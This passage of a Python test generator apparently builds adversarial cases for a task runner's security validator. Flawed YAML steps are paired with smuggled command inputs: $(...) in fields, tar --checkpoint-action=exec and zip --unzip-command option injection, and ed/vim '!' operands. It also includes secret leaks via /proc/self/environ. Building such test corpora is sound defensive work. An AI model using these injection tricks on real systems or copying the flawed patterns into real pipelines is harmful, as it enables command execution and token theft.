      while IFS= read -r h; do asked[$h]=1; done < <(jq -r '.[]' <<< "$ARG_hosts")
      for h in "${!asked[@]}"; do
        if [ -v "allowed[$h]" ]; then echo "ok: $h"; else echo "not allowed: $h"; fi
      done
""", {"hosts": ["web1", "$(" + PAY + " >&2)"]})
    add("declare-i-sum", C, W % "an integer variable's += (arithmetic on the text 'sizes[KEY]')", """
name: NAME_ID
description: Sum the sizes of components given as an object (name to bytes).
args:
  sizes:
    type: object
    additionalProperties: {type: integer, minimum: 0}
required: [sizes]
steps:
  - name: sum
    run: |
      declare -A sizes=()
      while IFS=$'\\t' read -r k v; do sizes[$k]=$v; done < <(jq -r 'to_entries[] | [.key, (.value|tostring)] | @tsv' <<< "$ARG_sizes")
      declare -i total=0
      for k in "${!sizes[@]}"; do total+=sizes[$k]; done
      echo "total: $total bytes"
""", {"sizes": {"core": 10, "$(" + PAY + " >&2)": 5}})
    add("read-into-assoc", C, W % "read", """
name: NAME_ID
description: Normalise the comma-separated values of a settings object into space-separated lists.
args:
  settings:
    type: object
    additionalProperties: {type: string}
required: [settings]
steps:
  - name: normalise
    run: |
      declare -A meta=()
      while IFS=$'\\t' read -r k v; do meta[$k]=$v; done < <(jq -r 'to_entries[] | [.key, .value] | @tsv' <<< "$ARG_settings")
      for k in "${!meta[@]}"; do IFS= read -r "meta[$k]" <<< "${meta[$k]//,/ }"; done
      for k in "${!meta[@]}"; do printf '%s: %s\\n' "$k" "${meta[$k]}"; done
""", {"settings": {"regions": "eu,us", "$(" + PAY + " >&2)": "x"}})

    # ---------------- C9 secret-leak ----------------
    C = "secret-leak"
    add("export-fold-environ", C, "The secret is exported for git/gh; fold -w1 of the caller's /proc/self/environ prints it one character per line, which no scrubber form matches.", """
name: NAME_ID
description: Wrap a release-notes file to a width for the announcement (the GitHub token is exported for the git credential helper used later).
secrets:
  GH_TOKEN: {env: RELEASE_GH_TOKEN}
args:
  notes: {type: string, maxLength: 4096, description: Path of the release notes file.}
  width: {type: integer, minimum: 1, maximum: 200, default: 72}
required: [notes]
steps:
  - name: wrap
    run: |
      export GH_TOKEN
      fold -w {{ args.width }} -- "$ARG_notes"
  - name: git
    run: git --version
""", {"notes": "/proc/self/environ", "width": 1})
    add("declare-x-od", C, "declare -x puts the secret in every program's environment; od -c of /proc/self/environ prints it character by character.", """
name: NAME_ID
description: Show a file as characters (od -c) to inspect control characters; the deploy token is exported for the deploy helper.
secrets:
  DEPLOY_TOKEN: {env: CI_DEPLOY_TOKEN}
args:
  file: {type: string, maxLength: 4096}
required: [file]
steps:
  - name: dump
    run: |
      declare -x DEPLOY_TOKEN
      od -An -c -- "$ARG_file" | head -n 400
""", {"file": "/proc/self/environ"})
    add("python-env-textwrap", C, "The secret is passed to one python3 command (as the docs recommend); that program wraps a caller-chosen file, /proc/self/environ, to width 1.", """
name: NAME_ID
description: Post a summary file to the status API and print it wrapped to a width.
secrets:
  API_TOKEN: {env: STATUS_API_TOKEN}
args:
  file: {type: string, maxLength: 4096}
  width: {type: integer, minimum: 1, maximum: 200, default: 80}
required: [file]
steps:
  - name: post
    run: |
      API_TOKEN="$API_TOKEN" python3 -c 'import os, sys, textwrap
      headers = {"Authorization": "Bearer " + os.environ["API_TOKEN"]}
      text = open(sys.argv[1], errors="replace").read()
      print(textwrap.fill(text, int(sys.argv[2])))' "$ARG_file" {{ args.width }}
""", {"file": "/proc/self/environ", "width": 1})
    add("argv-context-leak", C, "An argv: step with no placeholder gets the secret in its environment, yet reads the caller's arguments from context.json; it wraps /proc/self/environ to width 1.", """
name: NAME_ID
description: Wrap a text file to a width (reads its arguments from the run context; the token is for the helper's upload).
secrets:
  UPLOAD_TOKEN: {env: UPLOAD_TOKEN}
args:
  path: {type: string, maxLength: 4096}
  width: {type: integer, minimum: 1, maximum: 200, default: 80}
required: [path]
steps:
  - name: wrap
    argv:
      - python3
      - -c
      - "import json, os, textwrap; a = json.load(open(os.environ['HARBOR_CONTEXT']))['arguments']; print(textwrap.fill(open(a['path'], errors='replace').read(), int(a.get('width', 80))))"
""", {"path": "/proc/self/environ", "width": 1})
    add("export-cut-delim", C, "The secret is exported; cut -c with a caller list and --output-delimiter=' ' separates every character of /proc/self/environ.", """
name: NAME_ID
description: Print selected character columns of a file, separated by spaces (the registry token is exported for docker later).
secrets:
  REGISTRY_TOKEN: {env: REGISTRY_TOKEN}
args:
  file: {type: string, maxLength: 4096}
  columns: {type: string, pattern: "^[0-9,-]+$", maxLength: 20000}
required: [file, columns]
steps:
  - name: cut
    run: |
      export REGISTRY_TOKEN
      cut -c "$ARG_columns" --output-delimiter=' ' -- "$ARG_file"
""", {"file": "/proc/self/environ", "columns": ",".join(str(i) for i in range(1, 3001))})
    add("export-grep-o", C, "The secret is exported; grep -a -o with the caller's pattern '.' prints /proc/self/environ one character per line.", """
name: NAME_ID
description: Print every match of a pattern in a file, one per line (the npm token is exported for the publish step).
secrets:
  NPM_TOKEN: {env: NPM_TOKEN}
args:
  pattern: {type: string, maxLength: 200}
  file: {type: string, maxLength: 4096}
required: [pattern, file]
steps:
  - name: matches
    run: |
      export NPM_TOKEN
      grep -a -o -e "$ARG_pattern" -- "$ARG_file" | head -n 5000
""", {"pattern": ".", "file": "/proc/self/environ"})

    # ---------------- C10 format-as-language ----------------
    C = "format-as-language"
    add("email-raw-dq", C, "format: email only requires an '@' (jsonschema's check); the raw placeholder in double quotes runs $(...).", """
name: NAME_ID
description: Subscribe an e-mail address to the release announcements.
args:
  email: {type: string, format: email, maxLength: 254}
required: [email]
steps:
  - name: subscribe
    run: |
      echo "subscribing {{ args.email }}"
      printf 'subscriber=%s\\n' "{{ args.email }}" >> "$HARBOR_STEP_OUTPUT"
""", {"email": "ops$(" + PAY + " >&2)@example.com"})
    add("idn-email-raw", C, "format: idn-email only requires an '@'; the raw placeholder in double quotes runs $(...).", """
name: NAME_ID
description: Record the owner's e-mail of a service.
args:
  owner: {type: string, format: idn-email, maxLength: 254}
required: [owner]
steps:
  - name: record
    run: echo "owner set to {{ args.owner }}"
""", {"owner": "me$(" + PAY + " >&2)@example.org"})
    add("hostname-raw", C, "format: hostname is not asserted (no checker installed for it); the raw placeholder runs $(...).", """
name: NAME_ID
description: Resolve a host name.
args:
  host: {type: string, format: hostname, maxLength: 253}
required: [host]
steps:
  - name: resolve
    run: getent hosts {{ args.host }} || echo "{{ args.host }} does not resolve"
""", {"host": "x$(" + PAY + " >&2)"})
    add("uri-raw", C, "format: uri is not asserted; the raw placeholder in double quotes runs $(...).", """
name: NAME_ID
description: Check that a URL answers (HTTP status code).
args:
  url: {type: string, format: uri, maxLength: 2000}
required: [url]
steps:
  - name: check
    run: curl -sS -o /dev/null -m 5 -w '%{http_code}\\n' -- "{{ args.url }}" || true
""", {"url": "https://example.invalid/$(" + PAY + " >&2)"})
    add("date-time-raw", C, "format: date-time is not asserted; the raw placeholder in double quotes runs $(...).", """
name: NAME_ID
description: Convert an RFC 3339 timestamp to seconds since the epoch.
args:
  when: {type: string, format: date-time, maxLength: 64}
required: [when]
steps:
  - name: convert
    run: date -u -d "{{ args.when }}" +%s || true
""", {"when": "2024-01-01T00:00:00Z$(" + PAY + " >&2)"})

    # ---------------- C11 declared-grammar-wrong ----------------
    C = "declared-grammar-wrong"
    add("ed-bang-file", C, "The author declares ed with runs_operands: false; ed(1) reads a file name starting with '!' as a shell command's output.", """
name: NAME_ID
description: Print a file with ed (line-oriented, no pager).
programs:
  ed:
    flags: [-s]
    runs_operands: false
    stdin: data
args:
  file: {type: string, within: ".", maxLength: 4096}
required: [file]
steps:
  - name: print
    run: printf ',p\\nq\\n' | ed -s "$ARG_file"
""", {"file": "!" + PAY + " >&2"})
    add("ex-plus-command", C, "The author declares ex with runs_operands: false; vim/ex runs an operand starting with '+' as an Ex command (:!).", """
name: NAME_ID
description: Strip trailing whitespace from a file in place with ex.
programs:
  ex:
    flags: [-s]
    options_with_value: [-c]
    runs_operands: false
    stdin: data
args:
  file: {type: string, within: ".", maxLength: 4096}
required: [file]
steps:
  - name: strip
    run: ex -s -c '%s/\\s\\+$//e' -c 'wq' "$ARG_file"
""", {"file": "+silent !" + PAY})
    add("vim-es-plus", C, "The author declares vim with runs_operands: false; vim runs a '+cmd' operand as an Ex command.", """
name: NAME_ID
description: Convert a file to Unix line endings with vim in batch mode.
programs:
  vim:
    flags: [-e, -s, -es]
    options_with_value: [-c]
    runs_operands: false
    stdin: data
args:
  file: {type: string, within: ".", maxLength: 4096}
required: [file]
steps:
  - name: convert
    run: vim -es -c 'set ff=unix' -c 'wq' "$ARG_file"
""", {"file": "+!" + PAY})
    add("ed-argv", C, "argv: step with a declared ed grammar; the '!'-file runs a command.", """
name: NAME_ID
description: Count the lines of a file with ed.
programs:
  ed:
    flags: [-s]
    runs_operands: false
args:
  file: {type: string, within: ".", maxLength: 4096}
required: [file]
steps:
  - name: count
    run: ed -s "$ARG_file" <<< $'=\\nq'
  - name: show
    argv: [ed, -s, "{{ args.file }}"]
""", {"file": "!" + PAY + " >&2"})

    # ---------------- C13 xargs-resplit ----------------
    C = "xargs-resplit"
    W = "xargs re-splits its input on blanks and honours quotes (a W105 warning only): a word of the value becomes an option of "
    add("xargs-tar", C, W + "tar.", """
name: NAME_ID
description: Archive the named files (space-separated) into the run directory.
args:
  files: {type: string, minLength: 1, maxLength: 2000}
required: [files]
steps:
  - name: archive
    run: printf '%s\\n' "$ARG_files" | xargs tar -czf "$HARBOR_RUN_DIR/files.tgz"
""", {"files": '. --checkpoint=1 "--checkpoint-action=exec=' + PAY + '"'})
    add("xargs-find", C, W + "find.", """
name: NAME_ID
description: List all files under the named folders.
args:
  dirs: {type: string, default: ".", maxLength: 1000}
steps:
  - name: list
    run: printf '%s\\n' "$ARG_dirs" | xargs -r find | head -n 1000
""", {"dirs": '. -exec sh -c "' + PAY + '" ;'})
    add("xargs-zip", C, W + "zip.", """
name: NAME_ID
description: Zip the named files and test the archive.
args:
  files: {type: string, minLength: 1, maxLength: 2000}
required: [files]
steps:
  - name: zip
    run: echo "$ARG_files" | xargs zip -q "$HARBOR_RUN_DIR/out.zip"
""", {"files": '/etc/debian_version -T "--unzip-command=' + PAY + '"'})
    add("xargs-sed", C, W + "GNU sed (--expression e).", """
name: NAME_ID
description: Print the first three lines of each named file.
args:
  files: {type: string, minLength: 1, maxLength: 2000}
required: [files]
steps:
  - name: head
    run: printf '%s\\n' "$ARG_files" | xargs sed -n '1,3p'
""", {"files": '/etc/debian_version "--expression=1e ' + PAY + '"'})

    # ---------------- C16 exported-name-reassign ----------------
    C = "exported-name-reassign"
    add("env-tar-options", C, "TAR_OPTIONS is exported by the step's literal env:; reassigning it with caller text keeps it exported, and tar reads it as options.", """
name: NAME_ID
description: Tar the working directory into the run directory, optionally excluding a pattern.
args:
  exclude: {type: string, maxLength: 500, description: A glob of files to leave out.}
steps:
  - name: tar
    env: {TAR_OPTIONS: "--no-same-owner"}
    run: |
      if [ -n "${ARG_exclude-}" ]; then
        TAR_OPTIONS="$TAR_OPTIONS --exclude=$ARG_exclude"
      fi
      tar -czf "$HARBOR_RUN_DIR/src.tgz" .
""", {"exclude": '*.log --checkpoint=1 "--checkpoint-action=exec=' + PAY + '"'})
    add("env-zipopt", C, "ZIPOPT is exported by env:; the caller's text appended to it becomes zip options.", """
name: NAME_ID
description: Zip the working directory, optionally excluding a pattern.
args:
  exclude: {type: string, maxLength: 500}
steps:
  - name: zip
    env: {ZIPOPT: "-q"}
    run: |
      if [ -n "${ARG_exclude-}" ]; then ZIPOPT="$ZIPOPT -x $ARG_exclude"; fi
      zip -r "$HARBOR_RUN_DIR/wd.zip" /etc/debian_version
""", {"exclude": "*.log -T --unzip-command=" + PAY1})
    add("allexport-tar-options", C, "set -o allexport exports every later assignment; TAR_OPTIONS built from the caller's value reaches tar.", """
name: NAME_ID
description: Back up the working directory with a few tar defaults loaded as environment settings.
args:
  exclude: {type: string, maxLength: 500}
steps:
  - name: backup
    run: |
      set -o allexport
      TAR_OPTIONS="--exclude=${ARG_exclude:-*.tmp}"
      BACKUP_NAME=backup
      set +o allexport
      tar -czf "$HARBOR_RUN_DIR/$BACKUP_NAME.tgz" .
""", {"exclude": '*.log --checkpoint=1 "--checkpoint-action=exec=' + PAY + '"'})
    add("local-x-tar-options", C, "local -x in a function exports the caller-built TAR_OPTIONS to tar.", """
name: NAME_ID
description: Back up the working directory excluding a pattern.
args:
  exclude: {type: string, maxLength: 500}
steps:
  - name: backup
    run: |
      backup() {
        local -x TAR_OPTIONS="--exclude=$1"
        tar -czf "$HARBOR_RUN_DIR/backup.tgz" .
      }
      backup "${ARG_exclude:-*.tmp}"
""", {"exclude": '*.log --checkpoint=1 "--checkpoint-action=exec=' + PAY + '"'})

    # ---------------- C17 glob-planted-option ----------------
    C = "glob-planted-option"
    add("object-files-tar-glob", C, "The caller names files written in the working directory (object keys are not held to the dash rule); the author's own glob '*' then hands '--checkpoint-action=…' to tar.", """
name: NAME_ID
description: Write a set of small files (an object of name to content) into the working directory and snapshot it.
args:
  files:
    type: object
    additionalProperties: {type: string}
required: [files]
steps:
  - name: write
    run: |
      while IFS= read -r name; do
        jq -r --arg k "$name" '.[$k]' <<< "$ARG_files" > "$name"
      done < <(jq -r 'keys[]' <<< "$ARG_files")
  - name: snapshot
    run: tar -czf "$HARBOR_RUN_DIR/snapshot.tgz" *
""", {"files": {"notes.txt": "hi", "--checkpoint=1": "", "--checkpoint-action=exec=" + PAY: ""}})
    add("array-dotslash-zip-glob", C, "Array items './-T' pass the dash rule; the files they create are listed by the author's glob as '-T' and '--unzip-command=…' for zip.", """
name: NAME_ID
description: Create empty placeholder files in the working directory and zip everything there.
args:
  names:
    type: array
    items: {type: string, within: "."}
    maxItems: 50
required: [names]
steps:
  - name: touch
    run: |
      while IFS= read -r n; do : > "$n"; done < <(jq -r '.[]' <<< "$ARG_names")
  - name: zip
    run: zip -q "$HARBOR_RUN_DIR/all.zip" *
""", {"names": ["index.html", "./-T", "./--unzip-command=" + PAY]})
    add("multiline-names-tar-glob", C, "Placeholder files named by the lines of a multiline value become tar options through the author's glob.", """
name: NAME_ID
description: Create the listed empty files (one per line) and archive the working directory's top level.
args:
  names:
    type: string
    multiline: true
    maxLength: 5000
required: [names]
steps:
  - name: create
    run: |
      while IFS= read -r n; do [ -n "$n" ] && : > "./$n"; done <<< "$ARG_names"
  - name: archive
    run: tar -cf "$HARBOR_RUN_DIR/top.tar" *
""", {"names": "readme.txt\n--checkpoint=1\n--checkpoint-action=exec=" + PAY})
    add("upload-name-tar-glob-finally", C, "Two uploads saved under caller names ('./--checkpoint=1', './--checkpoint-action=…'); a finally: step archives the run context and '*'.", """
name: NAME_ID
description: Save two uploaded files under the given names and always archive the working directory at the end.
args:
  a: {type: string, contentEncoding: base64}
  a_name: {type: string, within: ".", maxLength: 255}
  b: {type: string, contentEncoding: base64}
  b_name: {type: string, within: ".", maxLength: 255}
required: [a, a_name, b, b_name]
steps:
  - name: save
    run: |
      cp -- "$ARG_a" "$ARG_a_name"
      cp -- "$ARG_b" "$ARG_b_name"
finally:
  - name: archive
    run: tar -czf "$HARBOR_RUN_DIR/uploads.tgz" "$HARBOR_RUN_DIR/context.json" * || true
""", {"a": b64("x"), "a_name": "./--checkpoint=1", "b": b64("y"), "b_name": "./--checkpoint-action=exec=" + PAY})
